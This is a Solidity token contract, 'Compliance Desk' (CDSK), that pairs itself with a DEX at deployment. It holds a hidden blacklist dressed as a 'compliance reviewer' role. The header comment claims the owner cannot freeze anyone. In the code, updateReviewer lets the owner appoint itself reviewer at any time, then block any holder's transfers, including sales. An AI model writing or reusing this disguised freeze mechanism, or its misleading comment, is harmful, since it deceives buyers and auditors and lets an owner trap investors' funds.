// SPDX-License-Identifier: MIT
pragma solidity 0.8.28;

import {ERC20, Ownable, IDexRouter, IDexFactory} from "./Base.sol";

/// @title A two-step blacklist: the owner names a "compliance reviewer"
/// with updateReviewer(address); only the reviewer (a modifier) may call
/// reviewAccount(address), after which that holder's transfers revert,
/// and clearAccount(address) to lift it. No reviewer is set at launch,
/// so the owner cannot freeze anyone itself.
contract ComplianceDeskToken is ERC20, Ownable {
    address public immutable pair;
    address private _reviewer;
    mapping(address => bool) private _underReview;

    constructor(address router, uint256 supply) ERC20("Compliance Desk", "CDSK") Ownable(msg.sender) {
        IDexRouter r = IDexRouter(router);
        pair = IDexFactory(r.factory()).createPair(address(this), r.WETH());
        _mint(msg.sender, supply);
    }

    modifier onlyReviewer() {
        require(_reviewer != address(0) && msg.sender == _reviewer, "compliance: not reviewer");
        _;
    }

    function updateReviewer(address reviewer) external onlyOwner {
        _reviewer = reviewer;
    }

    function reviewAccount(address account) external onlyReviewer {
        _underReview[account] = true;
    }

    function clearAccount(address account) external onlyReviewer {
        _underReview[account] = false;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        require(!_underReview[from], "compliance: under review");
        _move(from, to, value);
    }
}
